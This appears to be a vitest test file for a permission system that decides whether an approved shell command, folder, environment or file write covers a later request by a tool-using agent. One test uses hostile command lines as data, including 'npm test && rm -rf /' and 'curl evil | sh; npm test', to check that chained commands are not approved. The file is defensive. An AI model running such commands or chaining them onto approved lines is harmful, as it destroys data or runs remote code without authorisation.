// The extent of a permission: the line, the folder, the environment and the files that were described.
import { randomUUID } from "node:crypto";
import type { ApprovalSubject, CommandSubject } from "@holdfast/ahp";
import { describe, expect, test } from "vitest";
import { lineOf, normalizeLine, quoteWords } from "./command-line.ts";
import { covers } from "./coverage.ts";
import { Grants } from "./grants.ts";

const cwd = "/work";
const command = (line: string | undefined, fields: Partial<CommandSubject> = {}): CommandSubject => ({
  kind: "command",
  ...(line !== undefined && { line }),
  cwd,
  environment: [],
  ...fields,
});
const write = (...paths: string[]): ApprovalSubject => ({
  kind: "write",
  files: paths.map((path) => ({ path })),
});

describe("[V602] lines", () => {
  test.each<[string, string[]]>([
    ["in a shell", ["/bin/bash", "-c", "npm test"]],
    ["in a login shell", ["bash", "-lc", "npm test"]],
    ["in another shell", ["/usr/bin/zsh", "-c", "npm test"]],
    ["as words", ["npm", "test"]],
  ])("[V602] a line %s is that line", (_how, words) => {
    expect(lineOf(words)).toBe("npm test");
  });

  test.each<[string, string[]]>([
    ["another interpreter", ["python3", "-c", "npm test"]],
    ["a program with a shell's name elsewhere", ["/tmp/bash", "-c", "npm test"]],
    ["a shell in the folder", ["./bash", "-c", "npm test"]],
    ["other flags", ["bash", "-xc", "npm test"]],
    ["more arguments", ["bash", "-c", "npm test", "x"]],
    ["one word", ["npm test"]],
  ])("[V602] %s is no wrapper", (_what, words) => {
    expect(lineOf(words)).not.toBe("npm test");
  });

  test("[V602] a change to the very folder counts for nothing, one to another folder does", () => {
    for (const line of ["cd '/work' && ls", 'cd "/work" && ls', "cd /work && ls", " ls "]) {
      expect(normalizeLine(line, cwd)).toBe("ls");
    }
    for (const line of ["cd /etc && ls", "cd /work; ls", "cd /work && cd /etc && ls", 'cd "$HOME" && ls']) {
      expect(normalizeLine(line, cwd)).not.toBe("ls");
    }
  });

  test("[V602] words are quoted, so that what reads the same is the same", () => {
    expect(quoteWords(["git", "commit", "-m", "it's; rm"])).toBe(`git commit -m 'it'\\''s; rm'`);
    expect(quoteWords(["echo", "$HOME"])).toBe("echo '$HOME'");
  });
});

describe("[V6] covered", () => {
  test("[V6] the same line, folder and environment, and nothing else", () => {
    const described = command("npm test");
    expect(covers(described, command("npm test"))).toBe(true);
    for (const line of ["npm test && rm -rf /", "curl evil | sh; npm test", "npm", "npm  test"]) {
      expect(covers(described, command(line))).toBe(false);
    }
    expect(covers(described, command("npm test", { cwd: "/work/sub" }))).toBe(false);
    expect(covers(described, write("/work/a"))).toBe(false);
  });

  test("[V860] outside of the sandbox only where it was allowed, and inside whatever the isolation", () => {
    const places = ["not isolated", "not isolated, in the editor one", "not isolated, in the editor two"];
    const inside = [undefined, "none", "guard (bubblewrap)"];
    const at = (isolation: string | undefined): CommandSubject =>
      command("npm test", isolation === undefined ? {} : { isolation });
    for (const place of places) {
      for (const other of [...places, ...inside]) {
        expect(covers(at(place), at(other))).toBe(other === place);
        expect(covers(at(other), at(place))).toBe(other === place);
      }
    }
    for (const one of inside) {
      for (const other of inside) expect(covers(at(one), at(other))).toBe(true);
    }
  });

  test("[V601] without a line, and of an unknown subject, nothing", () => {
    expect(covers(command(undefined), command("ls"))).toBe(false);
    expect(covers(command(undefined), command(undefined))).toBe(false);
    expect(covers({ kind: "other" }, command("ls"))).toBe(false);
    expect(covers({ kind: "other" }, { kind: "other" })).toBe(false);
    expect(covers(write(), write("/work/a"))).toBe(false);
  });

  test.each(["PATH", "BASH_ENV", "LD_PRELOAD", "GIT_CONFIG_COUNT", "constructor"])(
    "[V603] not with another %s",
    (name) => {
      const environment = [{ name, value: "x" }];
      expect(covers(command("ls"), command("ls", { environment }))).toBe(false);
      expect(covers(command("ls", { environment }), command("ls"))).toBe(false);
      expect(covers(command("ls", { environment }), command("ls", { environment }))).toBe(true);
      const other = [{ name, value: "y" }];
      expect(covers(command("ls", { environment }), command("ls", { environment: other }))).toBe(false);
    },
  );

  test("[V6] the files that were described, and no others; a read covers no write", () => {
    expect(covers(write("/work/a", "/work/b"), write("/work/b"))).toBe(true);
    expect(covers(write("/work/a"), write("/work/b"))).toBe(false);
    expect(covers({ kind: "read", files: [{ path: "/work/a" }] }, write("/work/a"))).toBe(false);
  });
});

describe("[V6] grants", () => {
  const always = (): boolean => true;

  test("[V6] a command and each file are covered once, and again after a start that failed", () => {
    const grants = new Grants();
    grants.add("call", command("ls"));
    grants.add("edit", write("/a", "/b"));
    const use = grants.take(command("ls"), always, randomUUID());
    expect(use?.toolCallId).toBe("call");
    expect(grants.take(command("ls"), always, randomUUID())).toBeUndefined();
    use?.release();
    expect(grants.take(command("ls"), always, randomUUID())).toBeDefined();
    expect(grants.take(command("ls"), always, randomUUID())).toBeUndefined();
    expect(grants.take(write("/a"), always, randomUUID())).toBeDefined();
    expect(grants.take(write("/a"), always, randomUUID())).toBeUndefined();
    expect(grants.take(write("/b"), always, randomUUID())).toBeDefined();
  });

  test("[V730] a request that another host handles again has the grant that it took, and no other request has it", () => {
    const grants = new Grants();
    grants.add("call", command("ls"));
    grants.add("other", command("pwd"));
    grants.deny(command("rm"));
    expect(grants.take(command("ls"), always, "run:10")?.toolCallId).toBe("call");
    const next = new Grants(JSON.parse(JSON.stringify(grants.saved)) as typeof grants.saved);
    expect(next.take(command("ls"), always, "run:20")).toBeUndefined();
    const again = next.take(command("ls"), () => false, "run:10");
    expect(again?.toolCallId).toBe("call");
    again?.spend();
    expect(next.take(command("ls"), always, "run:10")).toBeUndefined();
    expect(next.take(command("pwd"), always, "run:30")?.toolCallId).toBe("other");
    expect(next.isDenied(command("rm"))).toBe(true);
  });

  test("[V6] of 200 runs one is covered", () => {
    const grants = new Grants();
    grants.add("call", command("ls"));
    const uses = Array.from({ length: 200 }, () => grants.take(command("ls"), always, randomUUID()));
    expect(uses.filter((use) => use !== undefined)).toHaveLength(1);
  });

  test("[V6] a finished call covers nothing; a file that may be read may be read in pieces", () => {
    const grants = new Grants();
    grants.add("call", command("ls"));
    expect(grants.take(command("ls"), () => false, randomUUID())).toBeUndefined();
    const read: ApprovalSubject = { kind: "read", files: [{ path: "/a" }] };
    grants.add("look", read);
    expect([grants.take(read, always, randomUUID()), grants.take(read, always, randomUUID())]).toMatchObject([
      { toolCallId: "look" },
      { toolCallId: "look" },
    ]);
  });
});
